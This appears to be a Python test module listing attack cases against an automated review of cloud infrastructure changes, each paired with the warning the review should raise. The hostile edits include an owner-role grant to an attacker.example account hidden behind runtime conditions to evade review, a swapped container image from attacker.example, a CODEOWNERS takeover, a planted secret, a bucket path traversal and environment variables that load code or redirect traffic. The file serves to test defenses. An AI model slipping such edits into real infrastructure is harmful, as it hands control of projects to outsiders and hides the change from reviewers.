"""Attacks that got past an earlier version of the review, found by trying to hide changes from it."""

from typing import Final

from attacks.attack import MAIN, Attack, Edit, append, write
from attacks.jobs import IMAGE, SPEC, spec, variables
from repositories import Repository

_GRANT: Final = """
import pulumi_gcp as gcp

def grant():
    gcp.projects.IAMMember("x", project="my-project-prod", role="roles/owner", member="user:eve@attacker.example")

"""


def _second_spec(*replaced: tuple[str, str]) -> Edit:
    """Add another spec that equals the first one but for some texts."""

    def apply(repository: Repository) -> None:
        text = (repository.folder / SPEC).read_text()
        for old, new in replaced:
            text = text.replace(old, new)
        write("second/tpucfg.yaml", text)(repository)

    return apply


def _attack(
    id: str, change: Edit, *cautions: str, status: int = 0, base: Edit | None = None
) -> Attack:
    return Attack(id, change, cautions, status=status, base=base)


ATTACKS: Final = (
    _attack(
        "second-spec-with-a-strangers-image-on-the-same-bucket",
        _second_spec((IMAGE, "attacker.example/train/mnist:1.0")),
        "attacker.example/train/mnist:1.0 with the bucket my-project-prod-mnist-prod-us-central1",
    ),
    _attack(
        "owners-of-the-workflow-changed",
        write(".github/CODEOWNERS", "* @attacker\n"),
        "`.github/CODEOWNERS` changed: it decides who has to approve later changes",
        base=write(".github/CODEOWNERS", "/.github/ @security\n"),
    ),
    Attack(
        "secret-under-a-key-of-a-stack-file",
        append("stacks/Pulumi.prod.yaml", "  mnist:apiToken: hunter2hunter2\n"),
        ("stack program changed in `stacks/Pulumi.prod.yaml`",),
        status=1,
        absent=("hunter2",),
    ),
    _attack(
        "address-that-climbs-out-of-the-own-bucket",
        spec(("${run_dir}", "/gcs/my-project-prod-mnist-prod-us-central1/../attacker/out")),
        "`/gcs/my-project-prod-mnist-prod-us-central1/../attacker/out` leads out of its folder",
    ),
    _attack(
        "variables-that-load-code-or-redirect-traffic",
        variables(
            BASH_ENV="/x/rc",
            HF_ENDPOINT="attacker.example",
            GOOGLE_APPLICATION_CREDENTIALS="/x",
            TPU_LIBRARY_PATH="/x",
        ),
        "`BASH_ENV` added (`/x/rc`): the program can load other code",
        "`HF_ENDPOINT` added (`attacker.example`): the program's traffic takes another way",
        "`GOOGLE_APPLICATION_CREDENTIALS` added (`/x`): the program acts as another account",
        "`TPU_LIBRARY_PATH` added (`/x`): the program can load other code",
    ),
    _attack(
        "grant-behind-a-value-that-only-an-update-knows",
        append(
            MAIN,
            f"{_GRANT}import pulumi\n"
            "agent = pulumi.Output.from_input(environment.tpu_agent)\n"
            "agent.apply(lambda name: grant() if '[' not in name else None)\n",
        ),
        "stack program changed in `stacks/__main__.py`",
    ),
    _attack(
        "environment-by-another-way",
        append(
            MAIN,
            f"{_GRANT}import os\nif getattr(os, 'environ').get('PULUMI_HOME'):\n    grant()\n",
        ),
        "stack program changed in `stacks/__main__.py`",
    ),
    _attack(
        "threads-counted",
        append(MAIN, f"{_GRANT}import threading\nif threading.active_count() > 30:\n    grant()\n"),
        "stack program changed in `stacks/__main__.py`",
    ),
)
